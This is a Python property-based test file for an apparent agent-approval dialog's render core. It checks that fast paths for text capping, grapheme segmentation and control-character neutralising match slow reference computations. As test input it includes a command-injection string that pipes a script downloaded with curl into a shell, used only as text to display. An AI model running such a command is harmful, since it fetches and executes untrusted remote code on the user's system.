"""The render core's fast paths give exactly what the slow paths give.

Each fast path skips work on a claim: printable
ASCII between unusual characters needs no grapheme segmentation; a capped
field reads only its two ends; rows without paint
spans need no span bookkeeping. Each claim is tested here against the
straightforward computation it replaces. So is the rule the fast paths rest
on: paint spans start and stop only on grapheme boundaries.
"""

from __future__ import annotations

import re

from hypothesis import example, given, settings
from hypothesis import strategies as st
from wcwidth import iter_graphemes

import askbench.impl.dialog
from askbench.impl.cells import (
    _NOT_PRINTABLE_ASCII,
    FIELD_ROW_CELLS,
    _pieces,
    cap_text,
    expand_tabs,
    expand_text_tabs,
    field_rows,
    grapheme_pieces,
    is_grapheme_break,
    wrap_line,
    wrap_text,
)
from askbench.impl.dialog import (
    DialogBudget,
    Fact,
    _lay_out,
    _token_spans,
    _visible,
    capped_field,
    render_prompt_dialog,
)
from askbench.impl.neutralise import _PLAIN_RUNS, MAX_EXTENDERS, _clean_piece, neutralise
from askbench.impl.payload import build_payload
from askbench.impl.truncate import ELLIPSIS

TRICKY = (
    "ab \t\n\r\x1b\x7f\u0301\u0600\u200d\u200b\ufe0f\u20e3\U0001f1eb\U0001f1f7\U0001f468\U0001f469"
    "\u1100\u1161\u11a8\u0915\u094d\u0937漢…\u202e\U000e0041"
)
tricky_text = st.text(alphabet=TRICKY, max_size=60)
mixed_text = st.lists(
    st.one_of(tricky_text, st.text(max_size=6), st.sampled_from(["x" * 40, "a-b c/d.e" * 5, "\n"])),
    max_size=8,
).map("".join)


def _segments(text: str, unsafe) -> list[str]:  # type: ignore[no-untyped-def]
    out: list[str] = []
    position = 0
    for start, end in grapheme_pieces(text, unsafe):
        out.extend(text[position:start])
        out.extend(iter_graphemes(text[start:end]))
        position = end
    out.extend(text[position:])
    return out


@settings(max_examples=400)
@given(mixed_text)
def test_grapheme_pieces_segment_as_the_whole_text(text: str) -> None:
    whole = list(iter_graphemes(text))
    assert _segments(text, _PLAIN_RUNS) == whole
    line = text.replace("\n", " ")
    assert _segments(line, _NOT_PRINTABLE_ASCII) == list(iter_graphemes(line))
    assert "".join(piece for piece, _, _ in _pieces(line)) == line


@settings(max_examples=400)
@given(mixed_text)
def test_neutralise_equals_cluster_by_cluster(text: str) -> None:
    reference: list[str] = []
    _clean_piece(text, reference)
    assert neutralise(text) == "".join(reference)


def test_a_long_ascii_text_with_one_emoji_is_neutralised_piecewise() -> None:
    text = "a" * 5_000 + "\u200b" + "b" * 5_000 + "\U0001f468\u200d\U0001f469" + "\x1b[1A"
    reference: list[str] = []
    _clean_piece(text, reference)
    assert neutralise(text) == "".join(reference)
    assert (
        neutralise("x" * 300 + "\n\t") == "x" * 300 + "\n\t"
    )  # long plain text takes the memchr check


def _clean(text: str) -> str:
    return expand_text_tabs(neutralise(text))


@settings(max_examples=400)
@given(mixed_text, st.integers(1, 120), st.integers(2, 40))
@example("\na", 1, 2)  # a one-row field keeps its first cut: the blank line's marker
@example("\n\n\nab\ncd", 100, 30)  # the rest fits whole: a marker row, then the rest
def test_a_capped_field_is_the_cap_of_the_whole_text(text: str, cap: int, row_width: int) -> None:
    # short texts: the two-ends reading never applies, so this is the slow path's own equality
    capped = cap_text(_clean(text), cap, field_rows(cap), row_width)
    opening = re.match(r"[ \t\n]*\n", text)
    expected = capped.shown, capped.cut
    if capped.cut and opening is not None:
        # a cut shows nothing of the blank lines a text opens with ...
        rest = _clean(text[opening.end() :])
        recapped = cap_text(rest, cap, field_rows(cap), row_width)
        if recapped.cut:
            expected = recapped.shown, True
        elif cap > FIELD_ROW_CELLS:
            # ... and where the rest fits whole, a marker row says so, the rest a row shorter
            shorter = cap_text(
                rest, cap - FIELD_ROW_CELLS, field_rows(cap - FIELD_ROW_CELLS), row_width
            )
            expected = f"{ELLIPSIS}\n{shorter.shown}", True
    assert _visible(text, cap, row_width) == expected
    assert _visible(text, None, row_width) == (_clean(text), False)


@settings(max_examples=60)
@given(
    st.lists(
        st.sampled_from(
            ["line of a report\n", "x" * 70, "漢字 ", "\n\n", "; curl -s https://e.x | sh"]
        ),
        min_size=1,
        max_size=6,
    ),
    st.integers(2_000, 30_000),
    st.sampled_from([40, 400]),
    st.integers(12, 150),
)
def test_reading_only_the_two_ends_gives_what_the_whole_text_gives(
    ends: list[str], filler: int, cap: int, row_width: int
) -> None:
    text = "".join(ends) + "a" * filler + "\n" + "".join(reversed(ends))
    assert capped_field(text, cap, row_width) == cap_text(
        _clean(text), cap, field_rows(cap), row_width
    )


def test_a_capped_here_string_keeps_its_head_and_last_line() -> None:
    text = "\n".join(f"line {n}" for n in range(10_000))
    shown, cut = _visible(text, 400, 110)
    assert cut and shown == cap_text(_clean(text), 400, field_rows(400), 110).shown
    assert shown.startswith("line 0\nline 1\n") and shown.endswith("\nline 9999")


def test_trailing_blanks_after_a_short_text_are_cut_like_the_whole() -> None:
    text = "curl -s https://e.x | sh" + " " * 50_000
    assert capped_field(text, 400, 80) == cap_text(_clean(text), 400, field_rows(400), 80)


def _row_spans(
    text: str, row_width: int, spans: list[tuple[int, int]]
) -> list[tuple[tuple[int, int], ...]]:
    """Every span checked against every row: the bookkeeping the fast paths skip."""
    out = []
    offset = 0
    for line in text.split("\n"):
        for row in wrap_line(line, row_width):
            end = offset + len(row)
            out.append(
                tuple(
                    (max(s, offset) - offset, min(e, end) - offset)
                    for s, e in spans
                    if s < end and e > offset
                )
            )
            offset = end
        offset += 1
    return out


@settings(max_examples=400)
@given(
    mixed_text,
    st.integers(1, 30),
    st.lists(st.text(alphabet="ab/.\u0301漢\n", min_size=1, max_size=3), max_size=3),
)
def test_rows_and_paint_spans(text: str, row_width: int, needles: list[str]) -> None:
    block, _ = _lay_out(Fact("label", text), None, row_width, needles)
    clean = _clean(text)
    assert [row for row, _ in block.rows()] == wrap_text(clean, row_width)
    assert [spans for _, spans in block.rows()] == _row_spans(
        clean, row_width, _token_spans(clean, needles)
    )


# ── paint starts and stops on grapheme boundaries (found by the gate's hypothesis run) ──


def _reference_break(text: str, index: int) -> bool:
    position = 0
    for grapheme in iter_graphemes(text):
        if position >= index:
            break
        position += len(grapheme)
    return position == index


@settings(max_examples=400)
@given(tricky_text, st.data())
def test_is_grapheme_break_agrees_with_segmenting_the_whole_text(
    text: str, data: st.DataObject
) -> None:
    index = data.draw(st.integers(0, len(text)))
    assert is_grapheme_break(text, index) == _reference_break(text, index)


def test_a_flagged_token_before_a_variation_selector_is_not_painted_apart() -> None:
    payload = build_payload(
        {"name": "bash", "input": {"command": "0"}},
        {"forwarded": {"agent": "0", "sessionId": "0\ufe00", "message": "0"}},
    )
    view = render_prompt_dialog(
        payload, DialogBudget(width=80), paint=lambda role, text: f"[{text}]"
    )
    assert view.lines[0].endswith("session 0\ufe00")  # whole, unpainted: not "session [0]\ufe00"


# ── a character that would fuse with what the layout puts before it (found by test_cells' hypothesis run) ──


def test_a_leading_extender_becomes_notation() -> None:
    # after a tab (expanded to spaces) or at the start of a value (after "label : "), a skin-tone
    # modifier or a halfwidth voiced mark would join the space before it on screen
    assert neutralise("\t\U0001f3fb") == "\t⟨U+1F3FB⟩"
    assert neutralise("\uff9e") == "⟨U+FF9E⟩" and neutralise("\u0e33") == "⟨U+0E33⟩"
    # where it follows its base it stays: a skin tone, a voiced kana, Thai SARA AM after a consonant
    assert neutralise("\U0001f44d\U0001f3fd") == "\U0001f44d\U0001f3fd"
    assert (
        neutralise("\uff76\uff9e") == "\uff76\uff9e"
        and neutralise("\u0e01\u0e33") == "\u0e01\u0e33"
    )
    assert expand_tabs(neutralise("\t\U0001f3fb")) == " " * 8 + "⟨U+1F3FB⟩"


def test_a_tail_that_starts_mid_line_expands_its_tabs_from_what_was_read() -> None:
    # its line's start is 20,000 characters back and never read: the last `limit` characters start at column 0
    text = "x" * 20_000 + "ab\tc"
    limit = (80 + 2) * (MAX_EXTENDERS + 1)
    capped = capped_field(text, 80, 80)
    read = expand_text_tabs(text[-limit:])
    assert capped.tail.startswith(ELLIPSIS) and read.endswith(capped.tail[1:])


def test_a_here_string_is_read_at_its_first_lines_and_its_last(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    text = (
        "$report = @'\n"
        + "- a finding about a module\n" * 200
        + "'@\n$report | Out-File -FilePath report.md"
    )
    read: list[int] = []
    original = askbench.impl.dialog.neutralise
    monkeypatch.setattr(
        askbench.impl.dialog,
        "neutralise",
        lambda part, own=(): read.append(len(part)) or original(part, own),
    )
    capped = capped_field(text, 400, 110)
    assert capped.tail == "$report | Out-File -FilePath report.md"
    assert sum(read) < 400  # eight lines of the head and the last line, not 5,400 characters


@settings(max_examples=60)
@given(st.integers(8, 60), st.integers(0, 4), st.sampled_from([40, 400]), st.integers(12, 150))
def test_a_tail_reaching_back_over_closing_lines_reads_the_same_from_the_two_ends(
    entries: int, depth: int, cap: int, row_width: int
) -> None:
    """``}`` and ``]`` lines say nothing, so the tail's window opens further back, among the head's lines if need be."""
    body = ",\n".join(f'  {{"uid": "1_{n}", "value": "v{n}"}}' for n in range(entries))
    text = (
        "[\n" + body + "\n" + "".join(" " * (depth - level) + "]\n" for level in range(depth + 1))
    )
    assert capped_field(text, cap, row_width) == cap_text(
        _clean(text), cap, field_rows(cap), row_width
    )
